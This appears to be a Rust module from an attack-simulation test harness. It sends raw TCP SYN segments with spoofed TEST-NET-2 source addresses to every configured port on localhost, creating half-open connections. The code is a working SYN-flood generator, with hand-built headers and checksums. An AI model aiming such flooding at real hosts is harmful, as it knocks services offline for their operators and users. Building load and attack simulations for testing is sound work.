//! Half-open connections: segments that request one, from addresses where nobody answers.

use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use socket2::{Domain, Protocol, Socket, Type};

use super::Attack;

/// Interval between the segments to each port.
const TICK: Duration = Duration::from_millis(2);
const HEADERS: usize = 40;

/// Sends 500 SYN segments a second to each TCP port (RFC 4987). The namespace has no route to their source.
pub fn flood(attack: Attack) {
    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::TCP)).expect("a raw socket");
    raw.set_header_included_v4(true).expect("an option");
    let mut number = 0_u32;
    while attack.wait(TICK) {
        number += 1;
        // TEST-NET-2 (RFC 5737).
        let from = Ipv4Addr::new(198, 51, 100, (number % 250) as u8 + 1);
        for port in attack.ports.tcp() {
            let to = SocketAddr::from((Ipv4Addr::LOCALHOST, 0));
            let _ = raw.send_to(&syn(from, port, number), &to.into());
        }
    }
}

/// IPv4 and TCP headers (RFC 791 section 3.1, RFC 9293 section 3.1).
fn syn(from: Ipv4Addr, port: u16, number: u32) -> [u8; HEADERS] {
    let to = Ipv4Addr::LOCALHOST;
    let mut octets = [0; HEADERS];
    let (ip, tcp) = octets.split_at_mut(20);
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&(HEADERS as u16).to_be_bytes());
    (ip[8], ip[9]) = (64, 6);
    ip[12..16].copy_from_slice(&from.octets());
    ip[16..20].copy_from_slice(&to.octets());
    let source = 1_024 + (number % 60_000) as u16;
    tcp[..2].copy_from_slice(&source.to_be_bytes());
    tcp[2..4].copy_from_slice(&port.to_be_bytes());
    tcp[4..8].copy_from_slice(&number.wrapping_mul(0x9e37_79b9).to_be_bytes());
    // Data offset 5, SYN, a window.
    (tcp[12], tcp[13]) = (0x50, 0x02);
    tcp[14..16].copy_from_slice(&8_192_u16.to_be_bytes());
    let words = |octets: &[u8]| -> u32 {
        let words = octets.chunks_exact(2);
        words
            .map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])))
            .sum()
    };
    // With the pseudo-header: addresses, protocol and length.
    let mut sum = words(tcp) + words(&from.octets()) + words(&to.octets()) + 6 + 20;
    sum = (sum & 0xffff) + (sum >> 16);
    sum = (sum & 0xffff) + (sum >> 16);
    tcp[16..18].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    // The kernel fills the checksum of the IPv4 header.
    octets
}
